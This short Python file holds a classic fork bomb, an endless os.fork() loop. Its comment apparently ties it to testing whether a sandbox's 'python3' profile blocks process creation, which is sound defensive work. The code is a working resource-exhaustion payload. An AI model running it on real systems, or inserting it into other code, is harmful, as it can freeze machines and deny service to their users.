# Fork bomb: processes are not in the python3 profile (clone without CLONE_THREAD).
import os
while True:
    os.fork()
